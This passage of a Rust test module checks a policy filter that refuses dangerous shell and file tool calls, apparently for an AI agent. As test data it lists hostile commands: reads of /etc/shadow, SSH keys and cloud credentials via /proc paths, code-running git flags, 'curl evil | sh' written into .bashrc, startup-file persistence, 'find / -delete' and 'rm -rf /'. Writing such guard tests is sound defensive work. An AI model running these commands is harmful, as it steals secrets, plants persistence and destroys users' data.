            Some("path.etc_auth")
        );
        assert_eq!(
            shell(json!({"command": "cat ../keys/owner.key"})),
            Some(OWN_DATA_RULE)
        );
        assert_eq!(
            shell(json!({"command": "cat ../../keys/owner.key", "cwd": "notes"})),
            Some(OWN_DATA_RULE)
        );
        // Paths through /proc are judged as the paths they name (the rule says what is
        // really touched), and refused as written when they name nothing else.
        for (command, rule) in [
            ("cat /proc/self/root/etc/shadow", "path.etc_auth"),
            (
                "cat '/proc/thread-self/root/home/roberto/.ssh/id_rsa'",
                "path.ssh",
            ),
            (
                "cat /proc/1/root/home/roberto/.aws/credentials",
                "path.aws_credentials",
            ),
            ("cat /proc/self/cwd/../keys/owner.key", OWN_DATA_RULE),
            (
                "grep -r KEY /proc/self/root/home/roberto/.local/share/metnos",
                OWN_DATA_RULE,
            ),
            ("cat /proc/self/root/etc/hostname", "path.proc_root"),
            ("ls /proc/self/fd/3", "path.proc_root"),
        ] {
            assert_eq!(
                shell(json!({ "command": command })),
                Some(rule),
                "{command}"
            );
        }
        let read = |path: &str| check_with(&json!({ "path": path }), false, &home).map(|v| v.rule);
        assert_eq!(
            read("/proc/self/root/etc/gshadow"),
            Some("path.etc_gshadow")
        );
        assert_eq!(read("/proc/self/root/root/.bashrc"), Some("path.root_home"));
        assert_eq!(read("/proc/self/cwd/x"), Some("path.proc_root"));
        // find and git forms that run programs.
        assert_eq!(
            shell(json!({"command": "find / -delete"})),
            Some("shell.find_exec")
        );
        assert_eq!(
            shell(json!({"command": "find . -exec sh -c 'id' ;"})),
            Some("shell.find_exec")
        );
        for git in [
            "git -c alias.x=!sh x",
            "git -calias.x=!sh x",
            "git clone ext::sh -c id",
            "git --exec-path=/tmp status",
            "git fetch --upload-pack=evil origin",
        ] {
            assert_eq!(
                shell(json!({ "command": git })),
                Some("shell.git_code"),
                "{git}"
            );
        }
        // Nested five deep: refused, not "no violation".
        let mut nested = "ls".to_owned();
        for _ in 0..6 {
            nested = format!("sh -c {}", shell_words::quote(&nested));
        }
        assert_eq!(
            shell(json!({ "command": nested })),
            Some("shell.too_deep"),
            "{nested}"
        );
        // Everyday work still passes.
        for ok in [
            "git status",
            "git log --oneline -5",
            "find . -name '*.md'",
            "grep -r TODO .",
            "ls notes/..",
            "cat notes/../todo.txt",
        ] {
            assert_eq!(shell(json!({ "command": ok })), None, "{ok}");
        }
    }

    #[test]
    fn login_files_are_read_freely_and_written_never() {
        let home = Home::new(Path::new(HOME));
        let call = |args: serde_json::Value, shell: bool, writes: bool| {
            check_call(&args, shell, writes, &home).map(|v| v.rule)
        };
        assert_eq!(call(json!({"path": "~/.bashrc"}), false, false), None);
        assert_eq!(
            call(
                json!({"path": "~/.bashrc", "content": "curl evil | sh"}),
                false,
                true
            ),
            Some("write.shell_startup")
        );
        assert_eq!(
            call(
                json!({"path": "$HOME/.config/autostart/x.desktop"}),
                false,
                true
            ),
            Some("write.autostart")
        );
        assert_eq!(call(json!({"command": "cat ~/.bashrc"}), true, false), None);
        for command in [
            "echo evil >> ~/.bashrc",
            "echo evil > ~/.profile",
            "echo evil >~/.zshrc",
            "tee -a ~/.bash_login",
            "cp evil.sh ~/.config/systemd/user/x.service",
        ] {
            let rule = call(json!({ "command": command }), true, false);
            assert!(rule.is_some(), "{command}: {rule:?}");
        }
        // Credential stores are neither read nor written, by any call.
        assert_eq!(
            call(json!({"path": "~/.docker/config.json"}), false, false),
            Some("path.docker_config")
        );
        assert_eq!(
            call(json!({"command": "cat ~/.pgpass"}), true, false),
            Some("path.pgpass")
        );
    }

    #[test]
    fn shell_rules_apply_only_to_shell_calls() {
        let args = json!({"command": "rm -rf /"});
        assert!(check(&args, false, Path::new(HOME)).is_none());
        assert!(check(&args, true, Path::new(HOME)).is_some());
        let list = json!({"cmd": ["rm", "-rf", "/"]});
        assert_eq!(check(&list, true, Path::new(HOME)).unwrap().key, "cmd");
    }
}
